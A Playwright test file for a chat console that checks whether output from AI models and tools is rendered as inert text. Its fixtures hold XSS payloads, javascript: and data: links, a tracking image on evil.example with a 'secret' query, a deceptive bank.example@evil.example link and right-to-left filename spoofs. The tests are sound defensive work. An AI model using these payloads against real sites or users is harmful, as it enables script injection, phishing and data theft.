import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { scriptByConversation } from '../../src/testing/script-by-conversation.ts'
import { callTools, say } from '../../src/testing/scripted-answer.ts'
import { defineTool } from '../../src/tools/index.ts'
import { consoleWorld } from './support/console-world.ts'
import { begin, untilTurn } from './support/talk.ts'

const HTML =
  '<script>window.hacked = 1</script><img src="http://evil.example/a.png" onerror="window.hacked = 1">'
const MARKDOWN = [
  HTML,
  '![a pixel](http://evil.example/pixel.png?secret=1)',
  '[press](javascript:window.hacked=1)',
  '[press too](JaVaScRiPt:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '<javascript:window.hacked=1>',
  '[https://bank.example](https://bank.example@evil.example/login)',
  '[local](/v1/sessions)',
  'invoice\u202Efdp.exe',
  'receipt&#x202e;fdp.exe',
  '![bill&#8238;](http://evil.example/b.png)',
  '# A heading of its own',
  '| <b>bold</b> | ![x](http://evil.example/cell.png) |\n| --- | --- |\n| [go](javascript:window.hacked=1) | 2 |',
].join('\n\n')
const HOSTILE = `${HTML} \u001b[31mred\u001b[0m \u202Etxt.exe \u200Bhidden`

const respond = scriptByConversation({
  'Say it': [say(MARKDOWN)],
  'Call it': [callTools({ tool: 'fetch_page', arguments: { address: HOSTILE } }), say('Done.')],
  'Stress it': [say('_*'.repeat(9_000))],
  'Nest it': [say('> '.repeat(9_000)), say('Done.')],
  [HTML]: [say('I see.')],
})
const fetchPage = defineTool({
  name: 'fetch_page',
  description: 'Fetches.',
  input: z.object({ address: z.string() }),
  effect: 'read',
  run: () => HOSTILE,
})
const world = consoleWorld({ respond, tools: [fetchPage] })

interface Watched {
  readonly page: Page
  readonly complaints: readonly string[]
  /** Addresses that were asked for and are not the gateway's. */
  readonly elsewhere: readonly string[]
}

async function open(): Promise<Watched> {
  const { page, complaints } = await world.openPage()
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(world.url)) elsewhere.push(request.url())
  })
  return { page, complaints, elsewhere }
}

async function expectInert({ page, complaints, elsewhere }: Watched): Promise<void> {
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(await page.locator('main img, main script, main iframe').count()).toBe(0)
  expect(elsewhere).toEqual([])
  expect(complaints).toEqual([])
}

describe('what a model writes', () => {
  it('is text: no HTML, no image, no address that is not what it seems', async () => {
    const watched = await open()
    const { page } = watched
    await begin(page, 'Say it')
    await untilTurn(page, 1, 'completed')
    const prose = page.locator('.prose')
    const text = await prose.textContent()
    expect(text).toContain(HTML)
    expect(text).toContain('[image: a pixel (http://evil.example/pixel.png?secret=1)]')
    expect(text).toContain('press (javascript:window.hacked=1, not a link)')
    expect(text).toContain('press too (JaVaScRiPt:window.hacked=1, not a link)')
    expect(text).toContain('local (/v1/sessions, not a link)')
    expect(text).toContain('https://bank.example (https://bank.example@evil.example/login)')
    expect(text).toContain('invoice[U+202E]fdp.exe')
    expect(text).toContain('receipt[U+202E]fdp.exe')
    expect(text).toContain('[image: bill[U+202E] (http://evil.example/b.png)]')
    const table = page.getByRole('region', { name: 'Table' })
    expect(await table.locator('th').allTextContents()).toEqual([
      '<b>bold</b>',
      '[image: x (http://evil.example/cell.png)]',
    ])
    expect(await table.locator('td').allTextContents()).toEqual([
      'go (javascript:window.hacked=1, not a link)',
      '2',
    ])
    const links = await Promise.all(
      (await prose.locator('a').all()).map((link) =>
        Promise.all([link.getAttribute('href'), link.getAttribute('rel')]),
      ),
    )
    expect(links).toEqual([['https://bank.example@evil.example/login', 'noreferrer noopener']])
    expect(await prose.locator('h1').count()).toBe(0)
    await expectInert(watched)
  })

  it('is shown as it is where it cannot be laid out', async () => {
    const watched = await open()
    await begin(watched.page, 'Nest it')
    await untilTurn(watched.page, 1, 'completed')
    await watched.page.locator('.prose').getByText('> > >').waitFor()
    expect(watched.elsewhere).toEqual([])
  })

  it('is shown as it is where it would take too long to lay out', async () => {
    const { page } = await open()
    await begin(page, 'Stress it')
    await untilTurn(page, 1, 'completed')
    await page.locator('.plain-text').getByText('_*_*_*').waitFor()
  })
})

describe('what tools are given and give', () => {
  it('is text, with what hides in it made visible', async () => {
    const watched = await open()
    const { page } = watched
    await begin(page, 'Call it')
    await untilTurn(page, 1, 'completed')
    await page.locator('.call > summary').click()
    const [args, receipt] = await page.locator('.call .code').allTextContents()
    expect(args).toContain('\\u202etxt.exe \\u200bhidden')
    expect(receipt).toContain('[U+202E]txt.exe [U+200B]hidden')
    expect(`${args}${receipt}`).not.toContain('\u001b')
    expect(receipt).toContain(HTML)
    await expectInert(watched)
  })
})

describe('what people write', () => {
  it('is text, in the address and in the list, too', async () => {
    const watched = await open()
    const { page } = watched
    await begin(page, HTML)
    await untilTurn(page, 1, 'completed')
    expect(await page.locator('.input .plain-text').textContent()).toBe(HTML)
    await page.goto(`${world.url}/sessions/${encodeURIComponent('<img src=x onerror=window.hacked=1>')}`)
    await page.getByRole('heading', { name: '<img src=x onerror=window.hacked=1>' }).waitFor()
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    expect(watched.elsewhere).toEqual([])
  })
})
